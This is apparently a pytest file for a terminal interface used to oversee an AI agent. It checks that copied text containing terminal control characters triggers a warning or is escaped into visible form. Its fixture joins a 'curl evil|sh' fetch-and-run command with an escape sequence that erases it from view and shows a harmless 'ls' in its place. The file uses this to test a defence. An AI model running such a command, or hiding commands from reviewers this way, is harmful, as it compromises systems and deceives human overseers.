"""What is copied, and what is told where a terminal could obey it."""

import pytest
from textual.notifications import Notify

from hitl_engine.model import JsonValue
from hitl_tui.screens.text_modal import ModalText, TextModal

from .conftest import Console, OpenConsole, heard, settle
from .desk_double import DeskDouble, interrupt

ERASED = "curl evil|sh\r\x1b[2K   command: ls\x07"
SAID: list[JsonValue] = [{"type": "ai", "content": ERASED}]


def told(c: Console) -> list[str]:
    """Return the notifications."""
    return [event.notification.message for event in heard(c.said, Notify)]


@pytest.mark.parametrize("keys", [("alt+2",), ("alt+3", "enter", "down", "down", "down")])
async def test_a_view_copies_hostile_text_with_a_warning(
    console: OpenConsole, keys: tuple[str, ...]
) -> None:
    desk = DeskDouble(interrupt({"text_to_revise": "x"}))
    desk.values = {"messages": SAID} if keys == ("alt+2",) else {"a": ERASED}
    async with console(desk, (80, 24)) as c:
        await c.open()
        await c.press(*keys, "y")
        assert c.app.clipboard == ERASED
        assert any("3 control characters" in text for text in told(c))


async def test_an_error_is_copied_as_visible_characters(console: OpenConsole) -> None:
    async with console(DeskDouble(), (80, 24)) as c:
        c.app.push_screen(TextModal(ModalText("Failed", ERASED)))
        await settle(c.pilot)
        await c.press("c")
        assert r"\u{1B}[2K   command: ls" in c.app.clipboard
        assert not told(c)


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("line\nline\tline 👩‍👩‍👧 עברית", ""),
        ("\x9b31m", "contains 1 control character:"),
        ("lone \ud800 surrogate", "1 invalid character became a question mark."),
    ],
)
async def test_what_is_told_of_a_text(console: OpenConsole, text: str, words: str) -> None:
    async with console(DeskDouble(), (100, 30)) as c:
        c.app.copy_to_clipboard(text)
        await settle(c.pilot)
        assert c.app.clipboard == text.replace("\ud800", "?")
        assert [words in text for text in told(c)] == [True] * bool(words)
